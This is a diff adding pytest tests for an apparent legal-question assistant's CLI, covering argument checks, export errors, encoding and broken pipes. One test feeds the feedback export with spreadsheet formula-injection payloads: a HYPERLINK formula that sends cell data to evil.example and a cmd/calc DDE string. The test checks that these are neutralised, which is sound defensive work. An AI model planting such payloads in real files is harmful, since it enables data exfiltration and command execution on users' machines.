@@ -160,3 +160,77 @@ def test_eval_refuses_an_unknown_preset(run):
     result = run("eval", "--preset", "default,no-such-preset")
     assert result.returncode == 2
     assert "unknown preset no-such-preset" in result.stderr
+
+
+def test_serve_refuses_an_open_host_without_saying_it_serves_there():
+    result = run_process("serve", "--host", "0.0.0.0", "--port", "7993")
+    assert result.returncode == 1
+    assert "on http://" not in result.stdout
+    assert result.stderr.count("\n") == 1 and "--auth user:password" in result.stderr
+
+
+@pytest.mark.parametrize("k", ["0", "-3", "51", "two"])
+def test_k_must_be_a_number_of_provisions_from_1_to_50(run, k, capsys):
+    with pytest.raises(SystemExit) as exit_status:
+        main(["ask", "What is rape?", "-k", k])
+    assert exit_status.value.code == 2
+    assert "argument -k: must be" in capsys.readouterr().err
+
+
+def test_feedback_export_into_a_missing_folder_is_one_line(run, tmp_path, monkeypatch):
+    from assistant.feedback import FeedbackStore
+
+    monkeypatch.setenv("ASSISTANT_FEEDBACK_DB", str(tmp_path / "feedback.sqlite"))
+    FeedbackStore(tmp_path / "feedback.sqlite").add("helpful", "", "What is rape?", "…", [])
+    result = run("feedback", "export", "--output", str(tmp_path / "missing" / "feedback.jsonl"))
+    assert result.returncode == 2
+    assert result.stderr.count("\n") == 1 and "the folder does not exist" in result.stderr
+
+
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(run, tmp_path, monkeypatch):
+    import csv
+
+    from assistant.feedback import FeedbackStore
+
+    monkeypatch.setenv("ASSISTANT_FEEDBACK_DB", str(tmp_path / "feedback.sqlite"))
+    store = FeedbackStore(tmp_path / "feedback.sqlite")
+    store.add("helpful", '=HYPERLINK("http://evil.example/?"&A1,"see")', "+1+cmd|' /C calc'!A0", "-2+3", [])
+    store.add("helpful", "@SUM(1+1)", "Is rape a crime against humanity?", "Yes [1].", [])
+    result = run("feedback", "export", "--format", "csv")
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert rows[0]["comment"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"see\")"
+    assert rows[0]["question"] == "'+1+cmd|' /C calc'!A0" and rows[0]["answer"] == "'-2+3"
+    assert rows[1]["comment"] == "'@SUM(1+1)" and rows[1]["question"] == "Is rape a crime against humanity?"
+
+
+def test_batch_output_is_valid_utf8_when_a_line_is_not():
+    result = subprocess.run([sys.executable, "-m", "assistant.cli", "ask", "--json"], cwd=PROJECT_ROOT,
+                            input=b"\xff" + b"x" * 5000 + b"\xc3\n", capture_output=True,
+                            timeout=300)
+    lines = result.stdout.decode("utf-8").splitlines()  # strict: raises on invalid UTF-8
+    assert len(lines) == 1 and "\ufffd" in json.loads(lines[0])["question"]
+    assert result.returncode == 2
+
+
+def test_output_closed_early_ends_quietly():
+    """`assistant ask … | head -3`: the reader goes away; no traceback, the exit status of a closed pipe."""
+    process = subprocess.Popen([sys.executable, "-m", "assistant.cli", "ask", "What are the elements of rape?"],
+                               cwd=PROJECT_ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    process.stdout.read(20)
+    process.stdout.close()
+    stderr = process.stderr.read().decode()
+    process.stderr.close()
+    assert process.wait(timeout=300) == 141
+    assert stderr == ""
+
+
+def test_uploads_folder_that_is_a_file_is_one_line(run, tmp_path, monkeypatch):
+    not_a_folder = tmp_path / "uploads.txt"
+    not_a_folder.write_text("")
+    monkeypatch.setenv("ASSISTANT_UPLOADS_DIR", str(not_a_folder))
+    notes = tmp_path / "notes.md"
+    notes.write_text("# Notes\n\nText.\n")
+    for args in (["corpus", "uploads"], ["corpus", "add", str(notes)], ["ask", "What is forced pregnancy?"]):
+        result = run(*args)
+        assert result.returncode == 2, result
+        assert result.stderr.count("\n") == 1 and "is a file, not a folder" in result.stderr
